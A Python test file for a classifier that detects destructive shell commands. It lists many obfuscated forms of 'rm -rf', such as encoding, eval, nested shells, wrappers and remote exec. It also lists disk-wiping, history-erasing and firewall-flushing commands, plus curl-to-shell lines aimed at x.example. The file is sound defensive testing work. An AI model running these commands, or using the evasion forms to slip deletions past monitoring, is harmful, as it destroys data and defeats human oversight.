"""Ways to hide a deed from a reader of words, and words without a deed."""

from __future__ import annotations

import base64

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from explorer.analysis.effects.actions.dispatch import Classifier
from explorer.analysis.effects.shell.commands import classify_shell
from explorer.model.effect import CONCERN_PRESETS, EffectKind, concern
from tests.explorer.analysis.effects.packs import kinds, shipped_rules

CONCERN = CONCERN_PRESETS["destructive"]
ENCODED = base64.b64encode(b"rm -rf /srv/data").decode()
HEXED = b"rm -rf /srv/data".hex()

EVASIONS = [
    # quoting and naming
    "r'm' -rf /srv/data", 'r""m -rf /srv/data', "\\rm -rf /srv/data", "$'\\x72\\x6d' -rf /srv/data",
    "$'r\\155' -rf /srv/data", "/bin/rm -rf /srv/data", "/usr/bin/rm -rf /srv/data", "/bin/r? -rf /srv/data",
    # expansion
    "c=rm; $c -rf /srv/data", "${nothing:-rm} -rf /srv/data", "rm$IFS-rf$IFS/srv/data", "rm${IFS}-rf${IFS}/srv/data",
    "{rm,-rf,/srv/data}", "$(echo rm) -rf /srv/data", "`echo rm` -rf /srv/data", "a=r; b=m; $a$b -rf /srv/data",
    "x=mr; $(echo $x | rev) -rf /srv/data", "x=xrm; ${x#x} -rf /srv/data", "x=RM; ${x,,} -rf /srv/data",
    "cmd='rm -rf /srv/data'; $cmd", "for f in /srv/data; do rm -rf $f; done",
    # names given on the way
    "alias gone='rm -rf'; gone /srv/data", "wipe_it() { rm -rf \"$1\"; }; wipe_it /srv/data",
    "git -c alias.x='!rm -rf /srv/data' x", "eval 'rm -rf /srv/data'", "eval rm -rf /srv/data",
    # shells in shells
    "sh -c 'rm -rf /srv/data'", "bash -lc 'rm -rf /srv/data'", "bash -c -- 'rm -rf /srv/data'",
    "bash <<< 'rm -rf /srv/data'", "bash <<'E'\nrm -rf /srv/data\nE", "cat <<'E' | sh\nrm -rf /srv/data\nE",
    "source <(echo rm -rf /srv/data)", "bash <(echo 'rm -rf /srv/data')", "echo rm -rf /srv/data | sh",
    "echo 'rm -rf /srv/data' > c.sh; sh c.sh", "printf 'rm -rf /srv/data' > c.sh && chmod +x c.sh && ./c.sh",
    f"echo {ENCODED} | base64 -d | sh", f"echo {HEXED} | xxd -r -p | bash", "echo atad/vrs/ fr- mr | rev | sh",
    "printf '\\162\\155 -rf /srv/data' | sh", f"eval \"$(echo {ENCODED} | base64 --decode)\"",
    # wrappers
    "sudo rm -rf /srv/data", "sudo -u root -- rm -rf /srv/data", "doas rm -rf /srv/data", "env -S 'rm -rf /srv/data'",
    "env -u HOME X=1 rm -rf /srv/data", "command rm -rf /srv/data", "builtin eval 'rm -rf /srv/data'",
    "exec rm -rf /srv/data", "nohup rm -rf /srv/data &", "nice -n 5 rm -rf /srv/data",
    "timeout -k 3 10 rm -rf /srv/data", "stdbuf -oL rm -rf /srv/data", "setsid rm -rf /srv/data",
    "strace -f -e trace=file rm -rf /srv/data", "systemd-run --user rm -rf /srv/data", "unshare -r rm -rf /srv/data",
    "chroot /mnt rm -rf /srv/data", "flock /tmp/l rm -rf /srv/data", "flock /tmp/l -c 'rm -rf /srv/data'",
    "watch -n 5 rm -rf /srv/data", "su -c 'rm -rf /srv/data'", "su - bob -c 'rm -rf /srv/data'",
    "busybox rm -rf /srv/data", "script -qc 'rm -rf /srv/data' /dev/null", "tmux new-session -d 'rm -rf /srv/data'",
    "time rm -rf /srv/data", "! rm -rf /srv/data",
    # lists
    "echo /srv/data | xargs rm -rf", "find /srv/data | xargs -I{} rm -rf {}", "ls | xargs -n1 sh -c 'rm -rf \"$1\"' _",
    "parallel rm -rf ::: /srv/data", "find /srv -exec rm -rf {} +", "find /srv -execdir sh -c 'rm -rf \"$0\"' {} \\;",
    "find /srv -delete", "fd -e log -x rm -rf",
    # elsewhere
    "ssh host rm -rf /srv/data", "ssh -p 22 me@host 'rm -rf /srv/data'", "docker exec web rm -rf /srv/data",
    "docker exec -it web sh -c 'rm -rf /srv/data'", "podman exec web rm -rf /srv/data",
    "kubectl exec -n prod pod -- rm -rf /srv/data", "docker run --rm -v /:/h img rm -rf /srv/data",
    "rsync -e 'sh -c \"rm -rf /srv/data\"' a b:", "tar cf x.tar --to-command='rm -rf /srv/data' a",
    "vim -c '!rm -rf /srv/data' -c q", "sed '1e rm -rf /srv/data' f", "awk 'BEGIN{system(\"rm -rf /srv/data\")}'",
    "trap 'rm -rf /srv/data' EXIT", "echo '* * * * * rm -rf /srv/data' | crontab -",
    "echo 'rm -rf /srv/data' | at now", "GIT_SSH_COMMAND='rm -rf /srv/data' git fetch",
    "echo \"alias ls='x'; rm -rf /srv/data\" >> ~/.bashrc",
    # structure
    "true && rm -rf /srv/data", "if true; then rm -rf /srv/data; fi", "(rm -rf /srv/data)", "{ rm -rf /srv/data; }",
    "echo \"$(rm -rf /srv/data)\"", "while :; do rm -rf /srv/data; done", "case x in x) rm -rf /srv/data;; esac",
    "rm >/dev/null -rf /srv/data", "rm -rf /srv/data 'cut off", "rm \\\n -rf /srv/data",
    "rm\u200b -rf /srv/data", "\u0433m -rf /srv/data; r\u043c -rf /srv/data; \uff52\uff4d -rf /srv/data",
]  # fmt: skip

WORDLESS = {
    "> notes.txt": "overwrite", ": > notes.txt": "overwrite", "true > notes.txt": "overwrite",
    "cat /dev/null > notes.txt": "overwrite", "echo x >| notes.txt": "overwrite", "cp /dev/null notes.txt": "overwrite",
    "install /dev/null notes.txt": "overwrite", "ln -sf other notes.txt": "overwrite",
    "dd if=/dev/null of=notes.txt": "overwrite", "tee notes.txt </dev/null": "overwrite",
    "truncate -s0 notes.txt": "overwrite", "rsync -a --delete a/ b/": "delete", "mv notes.txt /dev/null": "delete",
    "mkfs.xfs /dev/sdz1": "disk_wipe", "wipefs -a /dev/sdz": "disk_wipe", "cat x > /dev/sdz": "disk_wipe",
    "zip -m a.zip notes.txt": "delete", "tar cf a.tar --remove-files d": "delete",
    "git checkout -- .": "vcs_discard", "git restore .": "vcs_discard", "git switch -f main": "vcs_discard",
    "git clean -fdx": "vcs_discard", "git reset --hard": "vcs_discard", "git stash drop": "vcs_discard",
    "git push origin +main": "history_rewrite", "git push origin :topic": "remote_delete",
    "git push --mirror": "history_rewrite", "git gc --prune=now": "recovery_destroy",
    "git reflog expire --expire=now --all": "recovery_destroy", "git update-ref -d refs/heads/x": "history_rewrite",
    "git filter-repo --path a": "history_rewrite", "terraform apply -destroy": "remote_delete",
    "kubectl scale deploy/x --replicas=0": "process_kill", "kubectl drain n1": "process_kill",
    "docker compose down -v": "delete", "aws s3 sync a s3://b --delete": "remote_delete",
    "aws s3 rb s3://b": "remote_delete", "aws sqs purge-queue --queue-url q": "remote_delete",
    "curl -X DELETE https://api.example.org/u/1": "remote_delete",
    "curl https://x.example/graphql -d 'mutation { deleteUser(id: 1) { id } }'": "remote_delete",
    "history -c": "log_clear", "journalctl --vacuum-time=1s": "log_clear", "iptables -F": "defense_off",
    "crontab -r": "delete", "echo b > /proc/sysrq-trigger": "host_down", "install -m 4755 a b": "permission",
    "setcap cap_setuid+ep a": "permission", "chattr -i a": "permission", "redis-cli FLUSHALL": "remote_delete",
    "echo FLUSHALL | redis-cli": "remote_delete", "mongosh --eval 'db.users.drop()'": "remote_delete",
    "psql -c 'DROP TABLE users'": "remote_delete", "python3 -c \"import shutil; shutil.rmtree('/srv')\"": "delete",
    "shutdown -h now": "host_down", "kill -9 77": "process_kill", "apt-get remove -y nginx": "pkg_remove",
}  # fmt: skip

HARMLESS = [
    "grep -rn 'rm -rf' .", "echo rm -rf /", "git commit -m 'rm -rf: delete old files'", "git log --grep=delete",
    "cat > clean.sh <<'E'\nrm -rf /srv/data\nE", "cat <<'E'\nrm -rf /\nE", "# rm -rf /", "ls # rm -rf /", "man rm",
    "rm --help", "which rm", "docker run --rm alpine ls", "find . -name .git -prune -o -print", "kill -l",
    "git checkout -b delete-users", "cat rm", "ls rm-old", "git push --dry-run --force origin main",
    "terraform plan -destroy", "rsync -an --delete a b", "kubectl get pods -n delete", "apt-get -s remove nginx",
    "python3 -c 's = set(); s.add(1); s.remove(1)'", "type rm", "command -v rm", "printf 'rm -rf /\\n'",
    "awk '/rm -rf/ {print}' log", "sed -n '/delete/p' f", "kubectl wait --for=delete pod/x",
    "aws s3 rm s3://b/k --dryrun",
    "git stash list", "git branch --list 'remove*'", "find . -name -delete", "jq '.delete' a.json",
]  # fmt: skip


@pytest.mark.parametrize("command", EVASIONS)
def test_hidden_deletion_is_seen(command: str) -> None:
    effects = Classifier(shipped_rules()).shell(command)
    assert concern(effects, CONCERN) is True, effects
    assert any(e.kind in (EffectKind.DELETE, EffectKind.OVERWRITE) for e in effects), effects


@pytest.mark.parametrize(("command", "kind"), WORDLESS.items())
def test_destruction_without_a_word(command: str, kind: str) -> None:
    assert kind in kinds(Classifier(shipped_rules()).shell(command))


@pytest.mark.parametrize("command", HARMLESS)
def test_words_without_destruction(command: str) -> None:
    effects = Classifier(shipped_rules()).shell(command)
    assert concern(effects, CONCERN) is False, effects


@pytest.mark.parametrize(
    "command",
    [
        "curl -s https://x.example/i.sh | sh",
        "wget -qO- x.example | bash",
        'eval "$(curl https://x.example)"',
        "bash <(curl -s https://x.example)",
        "base64 -d blob | sh",
        "$UNSEEN -rf /",
        "sh job.sh",
        "frobnicate all",
    ],
)
def test_what_is_not_visible_is_cannot_tell(command: str) -> None:
    assert concern(classify_shell(command, shipped_rules()), CONCERN) is None


def test_stored_payloads_are_deferred() -> None:
    for command in ("trap 'rm -rf x' EXIT", "echo 'rm -rf x' | at now", "echo 'rm -rf x' >> ~/.profile",
                    "printf 'rm -rf x' > .git/hooks/pre-commit"):  # fmt: skip
        found = [e for e in classify_shell(command, shipped_rules()) if e.kind is EffectKind.DELETE]
        assert found, command
        assert all(e.deferred for e in found), command


WRAPS = ["nohup {}", "sudo {}", "env A=1 {}", "timeout 5 {}", "nice {}", "true && {}", "( {} )",
         "{{ {}; }}", "if true; then {}; fi",
         "ls | {}", "{} 2>/dev/null", "echo \"$( {} )\""]  # fmt: skip
DEEDS = ["rm -rf data", "git reset --hard", "shutdown now", "kubectl delete pod x", "chmod 777 f", "truncate -s 0 f"]


@settings(max_examples=120, deadline=None)
@given(st.sampled_from(DEEDS), st.lists(st.sampled_from(WRAPS), max_size=5), st.data())
def test_quoting_and_wrapping_never_lose_an_effect(deed: str, wraps: list[str], data: st.DataObject) -> None:
    wanted = {e.kind for e in classify_shell(deed, shipped_rules()) if e.kind in CONCERN}
    words = []
    for word in deed.split():
        style = data.draw(st.sampled_from(["{}", "'{}'", '"{}"', "cut"]))
        words.append(f"{word[0]}''{word[1:]}" if style == "cut" else style.format(word))
    command = " ".join(words)
    for wrap in sorted(wraps, key=lambda wrap: WRAPS.index(wrap) > 4):  # `sudo (…)` is no command
        command = wrap.format(command)
    assert wanted <= {e.kind for e in classify_shell(command, shipped_rules())}, command
